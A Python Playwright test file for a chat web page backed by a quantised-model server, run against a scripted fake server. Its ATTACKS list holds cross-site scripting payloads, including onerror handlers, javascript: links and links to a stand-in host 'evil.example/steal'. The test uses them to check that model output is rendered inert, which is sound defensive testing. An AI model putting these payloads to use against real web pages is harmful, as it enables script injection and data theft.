"""The page in a real browser, against a server that answers from a script (fake_server.py)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from fake_server import PAGE, Script, fake_server

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), ""
)
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium on this machine"),
]

FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
Open = Callable[..., Any]


@pytest.fixture(scope="module")
def tab() -> Iterator[Any]:
    """One tab for all tests. Every test has a server of its own, so an origin and storage too."""
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS, timeout=120_000)
        page = browser.new_page(viewport={"width": 1180, "height": 760})
        page.set_default_timeout(60_000)  # a busy machine is no failure
        yield page
        browser.close()


@pytest.fixture
def visit(tab: Any) -> Iterator[Open]:
    """Opens the page of a script's server; at the end no error and no foreign request was seen."""
    wrong: list[str] = []
    origins: list[str] = []

    def requested(request: Any) -> None:
        if not request.url.startswith((*origins, "blob:")):
            wrong.append(request.url)

    def logged(message: Any) -> None:
        if "Content Security Policy" in message.text:
            wrong.append(message.text)

    def asked(dialog: Any) -> None:
        wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    listeners: dict[str, Callable[[Any], None]] = {
        "pageerror": lambda error: wrong.append(str(error)),
        "dialog": asked,
        "request": requested,
        "console": logged,
    }
    for event, listener in listeners.items():
        tab.on(event, listener)
    with ExitStack() as stack:

        def visit(script: Script, path: str = "/") -> Any:
            origins.append(stack.enter_context(fake_server(script)))
            tab.goto(origins[-1] + path)
            tab.wait_for_selector(".meter.idle, .meter.busy, dialog[open]")
            return tab

        yield visit
        tab.goto("about:blank")
    for event, listener in listeners.items():
        tab.remove_listener(event, listener)
    assert not wrong


def ask(page: Any, text: str = "Why?") -> None:
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")


def answer(page: Any) -> Any:
    """The last answer, once it is complete."""
    page.wait_for_selector("button:has-text('Send')")
    return page.locator(".assistant").last


# ---- chat ------------------------------------------------------------------------------------


def test_an_answer_streams_with_its_figures(visit: Open) -> None:
    script = Script({None: ["**Blue**", " light", " is", " scattered."]}, hold_after=1)
    page = visit(script)
    ask(page, "Why is the sky blue?")
    page.wait_for_selector(".assistant strong:has-text('Blue')")
    assert page.locator("button:has-text('Stop')").count() == 1  # the rest is still to come
    assert page.locator(".log").get_attribute("aria-busy") == "true"
    script.go.set()
    done = answer(page)
    assert done.locator(".prose").inner_text() == "Blue light is scattered."
    figures = done.locator(".figures").inner_text()
    assert "3 bits" in figures
    assert "60.0 MB read a token" in figures
    assert "4 tokens" in figures
    assert "12.5 tokens/s" in figures  # of the server's timings
    assert page.locator(".log").get_attribute("aria-busy") == "false"
    (sent,) = script.requests
    assert sent["bits"] == "auto"
    assert sent["model"] == "toy"
    assert sent["messages"] == [{"role": "user", "content": "Why is the sky blue?"}]
    assert "temperature" not in sent  # left empty: the server's default


def test_the_slider_chooses_levels_averages_and_auto(visit: Open) -> None:
    script = Script()
    page = visit(script)
    slider = page.locator("#precision")
    assert page.locator("#stops option").evaluate_all("x => x.map(o => o.label)") == [
        "auto", "2", "3", "4",
    ]  # fmt: skip
    assert slider.get_attribute("aria-valuetext") == "auto: the server chooses (3 bits now)"
    wanted: list[Any] = [2, 2.5, 3, 3.5, 4]
    slider.focus()
    for bits in wanted:
        page.keyboard.press("ArrowRight")
        assert slider.get_attribute("aria-valuetext") == f"{bits} bits"
        assert f"{bits * 20:.1f} MB a token" in page.locator("output").inner_text()
    ask(page)
    assert "4 bits" in answer(page).locator(".figures").inner_text()
    page.reload()
    page.wait_for_selector(".meter.idle")
    assert slider.get_attribute("aria-valuetext") == "4 bits"  # remembered
    assert script.requests[0]["bits"] == 4


def test_switches_of_level_are_shown(visit: Open) -> None:
    page = visit(Script({None: list("abcdef")}, levels=[4, 3, 2]))
    ask(page)
    figures = answer(page).locator(".figures")
    assert "4 bits → 3 bits → 2 bits" in figures.inner_text()
    assert figures.locator("[role=img]").get_attribute("aria-label") == (
        "2 tokens at 4 bits, then 2 tokens at 3 bits, then 2 tokens at 2 bits"
    )


def test_stop_keeps_what_came_and_tells_the_server(visit: Open) -> None:
    script = Script({None: ["word "] * 9}, hold_after=3)
    page = visit(script)
    ask(page)
    page.wait_for_selector(".assistant .prose")
    page.keyboard.press("Escape")
    done = answer(page)
    assert "stopped" in done.locator(".figures").inner_text()
    assert 1 <= done.locator(".prose").inner_text().count("word") <= 3
    script.go.set()
    assert script.gone.wait(10)


def test_another_conversation_while_an_answer_comes(visit: Open) -> None:
    script = Script({None: ["word "] * 9}, hold_after=3)
    page = visit(script)
    ask(page, "the first")
    page.wait_for_selector(".assistant .prose")
    page.click("text=New conversation")
    script.go.set()
    assert script.gone.wait(10)
    page.wait_for_selector("aside li:has-text('the first')")  # kept, as far as it came
    assert page.locator(".message").count() == 0
    ask(page, "the second")
    assert answer(page).locator(".prose").inner_text().count("word") == 9
    page.click("aside >> text=the first")
    assert "stopped" in page.locator(".assistant .figures").inner_text()


def test_regenerate_and_edit_replace_the_last_turn(visit: Open) -> None:
    script = Script({None: ["one"]})
    page = visit(script)
    ask(page, "first")
    answer(page)
    script.answers[None] = ["two"]
    page.click("text=Regenerate")
    page.wait_for_selector(".assistant:has-text('two')")
    assert page.locator(".assistant").count() == 1
    page.click("button:has-text('Edit')")
    assert page.input_value("#prompt") == "first"
    ask(page, "second")
    page.wait_for_function("document.querySelectorAll('.user .bubble')[0].textContent === 'second'")
    answer(page)
    ask(page, "third")
    page.wait_for_function("document.querySelectorAll('.assistant').length === 2")
    answer(page)
    assert [m["content"] for m in script.requests[-1]["messages"]] == ["second", "two", "third"]


def test_settings_are_sent(visit: Open) -> None:
    script = Script()
    page = visit(script)
    page.click("button:has-text('Settings')")
    page.fill("dialog textarea", "Be brief.")
    page.get_by_label("Temperature").fill("0.7")
    page.get_by_label("Seed").fill("11")
    page.keyboard.press("Escape")
    ask(page)
    answer(page)
    (sent,) = script.requests
    assert sent["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (sent["temperature"], sent["seed"]) == (0.7, 11)
    assert "max_tokens" not in sent  # left empty: as many as there is room for


def test_history_is_kept_exported_and_imported(visit: Open, tmp_path: Path) -> None:
    page = visit(Script({None: ["kept"]}))
    ask(page, "Remember this")
    answer(page)
    page.reload()
    page.click("aside >> text=Remember this")
    assert page.locator(".assistant .prose").inner_text() == "kept"
    with page.expect_download() as download:
        page.click("text=Export")
    file = tmp_path / "export.json"
    download.value.save_as(file)
    saved = json.loads(file.read_text())
    assert saved["conversations"][0]["messages"][1]["content"] == "kept"
    page.click("[aria-label='Delete: Remember this']")
    assert page.locator("aside li").count() == 0
    page.set_input_files("input[type=file]", file)
    page.wait_for_selector("aside li:has-text('Remember this')")
    file.write_text("{}")
    page.set_input_files("input[type=file]", file)
    page.wait_for_selector("text=export.json is not an export of this page.")


# ---- errors ----------------------------------------------------------------------------------


def test_a_server_that_dies_is_an_error_beside_what_came(visit: Open) -> None:
    script = Script({None: ["half", " of", " it"]}, die_after=2)
    page = visit(script)
    ask(page)
    failure = page.locator(".failure[role=alert]")
    failure.wait_for()
    assert "ended in the middle" in failure.inner_text()
    assert page.locator(".assistant .prose").inner_text() == "half of"
    script.die_after = None
    page.click("text=Try again")
    page.wait_for_selector(".assistant:has-text('half of it')")
    assert failure.count() == 0


def test_no_server_and_a_full_one(visit: Open) -> None:
    page = visit(Script(refuse=(429, "the queue is full")))
    ask(page)
    page.wait_for_selector("text=the queue is full The server asks to wait 7 s.")
    page.context.set_offline(True)
    page.wait_for_selector(".meter.down")
    page.click("text=Try again")
    page.wait_for_selector("text=The server does not answer.")
    page.context.set_offline(False)


def test_a_key_is_asked_for_and_kept_for_the_tab(visit: Open) -> None:
    script = Script(key="secret")
    page = visit(script)
    page.fill("dialog[open] input", "wrong")
    page.click("text=Use this key")
    page.wait_for_selector("text=The server refused this key.")
    page.fill("dialog[open] input", "secret")
    page.click("text=Use this key")
    page.wait_for_selector(".meter.idle")
    ask(page)
    assert "3 bits" in answer(page).locator(".figures").inner_text()
    assert page.evaluate("Object.values(sessionStorage)") == ["secret"]
    assert "secret" not in page.evaluate("JSON.stringify(localStorage)")


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)></svg>",
    "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
    "[click](javascript:alert(5))",
    "[click](JaVa&#09;Script:alert(6))",
    "![x](https://evil.example/steal?q=1)",
    "<a href='data:text/html,<script>alert(7)</script>'>x</a>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>",
    "<form action=https://evil.example><input name=id><button>Go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
    "```\n</code></pre><img src=x onerror=alert(9)>\n```",
    "<think><img src=x onerror=alert(10)></think>",
    '[x]: https://a.example "\'><img src=x onerror=alert(11)>"\n[x]',
    "<div id=app class=top style=position:fixed>over</div>",
]


def test_what_a_model_writes_is_not_executed(visit: Open) -> None:
    """`visit` fails on dialogs, foreign requests, and whatever only the CSP has stopped."""
    page = visit(
        Script({None: [f"{text}\n\n" for text in ATTACKS] + ["[ok](https://a.example/b)"]})
    )
    ask(page, "<img src=x onerror=alert(0)>")
    done = answer(page)
    page.wait_for_timeout(100)
    shown = done.inner_text()
    assert "<script>alert(1)</script>" in shown  # as text
    tags = page.locator(".log").evaluate("x => [...x.querySelectorAll('*')].map(e => e.tagName)")
    assert not set(tags) & {"SCRIPT", "IMG", "svg", "IFRAME", "STYLE", "LINK", "FORM", "INPUT"}
    assert done.locator(".prose [style], .prose [id], .prose [class]:not(button)").count() == 0
    links = done.locator("a").evaluate_all("x => x.map(a => a.getAttribute('href'))")
    assert "https://a.example/b" in links
    assert all(link is None or link.startswith("https:") for link in links)
    assert set(done.locator("a").evaluate_all("x => x.map(a => a.rel)")) == {
        "noopener noreferrer nofollow"
    }


# ---- compare and load ------------------------------------------------------------------------


def test_side_by_side_marks_the_first_difference(visit: Open) -> None:
    sky = ["The", " sky", " is", " blue"]
    script = Script({2: ["The", " sea", " is", " blue"], 3: [*sky, " and"], 4: sky})
    page = visit(script, "/#compare")
    page.fill(".ask textarea", "Complete")
    page.click("button:has-text('Compare')")
    page.wait_for_selector("button:has-text('Compare')")
    columns = page.locator(".column")
    assert columns.count() == 3
    assert columns.locator("mark").all_inner_texts() == [" sea", " and"]
    assert columns.locator(".verdict").all_inner_texts() == [
        "leaves 4 bits at token 2",
        "leaves 4 bits at token 5",
        "what the others are compared with",
    ]
    assert sorted(r["bits"] for r in script.requests) == [2, 3, 4]
    for sent in script.requests:
        assert (sent["temperature"], sent["seed"]) == (0, 0)
    assert page.locator("[role=status]").all_inner_texts()[-1] == (
        "2 bits leaves 4 bits at token 2; 3 bits leaves 4 bits at token 5"
    )


def test_the_load_meter_shows_queue_level_and_shedding(visit: Open) -> None:
    script = Script(status={"queue": 5, "running": 8, "level": 2.5, "target_tps": None})
    script.status["shed"] = {"moved_down": 12, "rejected": 3}
    page = visit(script, "/#load")
    assert "8 running, 5 waiting" in page.locator(".meter").inner_text()
    facts = page.locator(".facts").inner_text()
    target = "no target: auto is the highest level"
    for line in ("2.5 bits", target, "room for 8 in all", "12", "3"):
        assert line in facts
    script.status |= {"queue": 0, "level": 4}
    page.wait_for_selector(".meter.idle:has-text('8 running, 0 waiting')")
    assert page.locator(".curve polyline").nth(2).get_attribute("points").count(",") >= 3
    assert page.locator("tbody tr").count() == 3


# ---- layout and keyboard ---------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_is_wider_than_a_narrow_screen(visit: Open, scheme: str) -> None:
    wide = [
        "w" * 300,
        "\n\n```\n",
        "x = " + "1" * 300,
        "\n```\n\n|a|b|\n|-|-|\n|",
        "c" * 200,
        "|d|\n",
    ]
    page = visit(Script({None: wide}))
    page.set_viewport_size({"width": 360, "height": 640})
    page.emulate_media(color_scheme=scheme)
    ask(page, "u" * 300)
    answer(page)
    for view in ("chat", "compare", "load"):
        page.click(f"nav a[href='#{view}']")
        if view == "compare":
            page.fill(".ask textarea", "Go")
            page.click("button:has-text('Compare')")
            page.wait_for_selector(".column .tokens")
        widths = (
            "[document.documentElement, document.querySelector('#main')].map(e => e.scrollWidth)"
        )
        assert max(page.evaluate(widths)) <= 360, view
        inside = "[...document.querySelectorAll('.view:not([hidden]), .log')]"
        wider = f"{inside}.filter(e => e.scrollWidth > e.clientWidth).map(e => e.className)"
        assert page.evaluate(wider) == [], view
    dark = page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
    assert dark == (scheme == "dark")
    page.set_viewport_size({"width": 1180, "height": 760})


def test_the_keyboard_reaches_everything_and_controls_have_names(visit: Open) -> None:
    page = visit(Script())
    ask(page)
    answer(page)
    assert page.evaluate("document.activeElement.id") == "prompt"
    page.keyboard.press("ArrowUp")  # in an empty field: edit the last message
    assert page.input_value("#prompt") == "Why?"
    page.keyboard.press("Escape")
    assert page.input_value("#prompt") == ""
    nameless = """[...document.querySelectorAll('button, input, textarea, a')]
        .filter(e => !e.closest('[hidden]') && e.type !== 'file')
        .filter(e => !(e.textContent.trim() || e.getAttribute('aria-label') || e.labels?.length))
        .map(e => e.outerHTML)"""
    assert page.evaluate(nameless) == []
    page.click("aside >> text=Why?")  # the conversation is kept, the focus begins anew
    page.reload()
    page.click("aside >> text=Why?")
    page.evaluate("document.querySelector('.skip').focus()")
    reached = [page.evaluate("document.activeElement.textContent")]
    for _ in range(16):
        page.keyboard.press("Tab")
        reached.append(
            page.evaluate("document.activeElement.id || document.activeElement.textContent.trim()")
        )
    assert reached[0] == "Skip to the content"
    assert {"Chat", "Compare", "Load", "precision", "prompt", "Settings", "Regenerate"} <= set(
        reached
    )


# ---- the double and the server ---------------------------------------------------------------


def shape(value: Any) -> Any:
    """Keys and kinds of a JSON value; a list is as its first entry."""
    if isinstance(value, dict):
        return {key: shape(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [shape(value[0])] if value else []
    return "number" if type(value) in (int, float) else type(value).__name__


def last_chunk(address: str) -> dict[str, Any]:
    body = {"messages": [{"role": "user", "content": "the sea"}], "stream": True, "bits": 3}
    order = urllib.request.Request(
        f"{address}/v1/chat/completions",
        json.dumps({**body, "model": status_of(address)["model"], "max_tokens": 4}).encode(),
        {"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(order) as answer:
        lines = answer.read().decode().split("\n\n")
    assert lines[-2:] == ["data: [DONE]", ""]
    found: dict[str, Any] = json.loads(lines[-3].removeprefix("data: "))
    return found


def status_of(address: str) -> dict[str, Any]:
    with urllib.request.urlopen(f"{address}/status.json") as answer:
        found: dict[str, Any] = json.load(answer)
    return found


def test_the_double_speaks_as_the_server_does(server: Any) -> None:
    """What the page reads is in the real server's answers, with the same kinds."""
    with fake_server(Script(status={"target_tps": None})) as fake:
        mine, real = shape(status_of(fake)), shape(status_of(server.address))
        assert mine == {key: real.get(key) for key in mine}
        mine, real = shape(last_chunk(fake)), shape(last_chunk(server.address))
        for part in ("dropbydrop", "timings"):
            assert mine[part] == {key: real[part].get(key) for key in mine[part]}
        for name in ("/", "/page/app.js"):
            answers = [urllib.request.urlopen(a + name) for a in (fake, server.address)]
            policies = [answer.headers["Content-Security-Policy"] for answer in answers]
            assert policies[0] == policies[1]
            assert answers[0].read() == answers[1].read()


# ---- files -----------------------------------------------------------------------------------


def test_vendored_files_are_as_locked() -> None:
    script = Path(__file__).parents[2] / "scripts" / "vendor.py"
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def test_the_page_names_no_other_machine() -> None:
    for file in PAGE.iterdir():
        if file.suffix in {".html", ".js", ".css"}:
            found = set(re.findall(r"https?://[^\s'\"`)]+", file.read_text()))
            assert not found, f"{file.name}: {found}"
